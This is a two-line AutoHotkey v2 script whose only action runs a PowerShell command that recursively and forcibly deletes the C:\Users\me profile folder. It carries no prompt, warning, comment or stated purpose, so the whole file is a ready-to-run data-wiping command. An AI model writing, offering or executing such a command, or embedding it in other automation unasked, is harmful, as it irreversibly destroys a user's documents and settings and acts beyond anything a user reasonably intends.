#Requires AutoHotkey v2.0
Run 'powershell -Command "Remove-Item -Recurse -Force C:\Users\me"'
